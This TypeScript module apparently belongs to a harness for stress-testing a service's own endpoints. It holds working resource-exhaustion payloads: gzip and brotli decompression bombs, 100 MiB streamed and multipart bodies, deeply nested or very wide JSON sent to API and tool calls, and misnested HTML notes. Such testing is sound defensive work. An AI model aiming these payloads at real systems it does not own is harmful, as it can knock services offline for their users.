/** Attacks by request bodies: bombs, floods, and shapes that are expensive to parse. */
import { randomUUID } from 'node:crypto';
import type { ClientRequest } from 'node:http';
import { brotliCompressSync, constants, gzipSync } from 'node:zlib';
import { type Attack, loops } from './attack.ts';
import { callTool, faces, saveItem, send } from './requests.ts';

const MIB = 1024 * 1024;
const zeros = (mib: number) => Buffer.alloc(mib * MIB, 0x61);
/** 300 MiB as a few hundred KiB. */
const bomb = () => gzipSync(zeros(300), { level: 9 });
const brotliBomb = () => brotliCompressSync(zeros(300), { params: { [constants.BROTLI_PARAM_QUALITY]: 4 } });

/** 100 MiB in pieces, as fast as the server reads them. */
function sendHundredMegabytes(sending: ClientRequest, opening = ''): void {
  sending.write(opening);
  const piece = Buffer.alloc(64 * 1024, 0x20);
  let left = 1_600;
  const push = () => {
    while (left-- > 0) if (!sending.write(piece)) return void sending.once('drain', push);
    sending.end();
  };
  sending.on('error', () => {});
  push();
}

const upload = { path: '/sign-in', headers: { 'Content-Type': 'multipart/form-data; boundary=x' } };
const uploadOpening = '--x\r\nContent-Disposition: form-data; name="f"; filename="f"\r\nContent-Type: application/octet-stream\r\n\r\n';

/** Personal notes with nested or misnested elements, 128 KiB long. */
const nested = [
  '<b>'.repeat(40_000),
  '<p><b>'.repeat(20_000),
  '<a href="http://a.example"><b>'.repeat(4_000),
  '<table><tr><td>'.repeat(8_000),
  '<blockquote><ul><li>'.repeat(6_000),
  '<b><i><u><s><p>'.repeat(8_000),
  `<p>${'&amp;'.repeat(25_000)}</p>`,
  '<table><b>x'.repeat(11_000),
  '</p>'.repeat(32_000),
];

export const byBodies: Record<string, Attack> = {
  bombs: {
    ...{ title: '300 MiB as gzip and brotli, to the API, the agents and the sign-in', seconds: 12 },
    run: (target, signal, tally) => {
      const compressed = [['gzip', bomb()] as const, ['br', brotliBomb()] as const];
      return loops(6, signal, (n) => {
        const [encoding, body] = compressed[n % 2]!;
        const { path, headers } = faces(target)[n % 3]!;
        return send(target, { path, headers: { ...headers, 'Content-Encoding': encoding }, body }, tally);
      });
    },
  },
  hugeBodies: {
    ...{ title: '100 MiB bodies: with a length, in chunks without one, as an attachment to the sign-in', seconds: 8 },
    run: (target, signal, tally) => {
      const feed = (sending: ClientRequest) => sendHundredMegabytes(sending);
      const bodies = [
        ...faces(target).map(({ path, headers }) => ({ path, headers: { ...headers, 'Content-Length': String(100 * MIB) }, feed })),
        ...faces(target).map((face) => ({ ...face, feed })),
        { ...upload, feed: (sending: ClientRequest) => sendHundredMegabytes(sending, uploadOpening) },
      ];
      return loops(bodies.length, signal, (n) => send(target, bodies[n]!, tally));
    },
  },
  wideJson: {
    ...{ title: 'JSON as deep and with as many values as its size allows, to the API and a tool', seconds: 12 },
    run: (target, signal, tally) => {
      const keys = (count: number) => `{${Array.from({ length: count }, (_, n) => `"k${n}":0`).join()}}`;
      const records = ['['.repeat(MIB - 1), `[${'[],'.repeat(340_000)}[]]`, keys(80_000), `"${'\\u0061'.repeat(170_000)}"`];
      const items = `[${'{"type":"task","title":""},'.repeat(300_000)}{}]`;
      const bodies = [
        ...records.map((body) => ({ ...saveItem(target), body })),
        callTool(target, 'svc_create_items', `{"requestId":"${randomUUID()}","workspaceId":1,"items":${items}}`),
        callTool(target, 'svc_context', keys(600_000)),
        callTool(target, 'svc_context', `{"x":[${'[],'.repeat(2_700_000)}[]]}`),
        callTool(target, 'svc_add_note', { requestId: randomUUID(), id: 1, body: 'a'.repeat(8_000_000) }),
      ];
      return loops(2, signal, async (n) => {
        for (let at = n; at < bodies.length; at += 2) await send(target, bodies[at]!, tally);
      });
    },
  },
  nestedHtml: {
    ...{ title: 'Personal notes of nested and misnested HTML, 128 KiB each', seconds: 8 },
    run: (target, signal, tally) => {
      let turn = 0;
      return loops(4, signal, () => {
        const html = nested[turn++ % nested.length]!.slice(0, 131_000);
        return send(target, callTool(target, 'svc_personal_notes_create', { requestId: randomUUID(), html }), tally);
      });
    },
  },
};
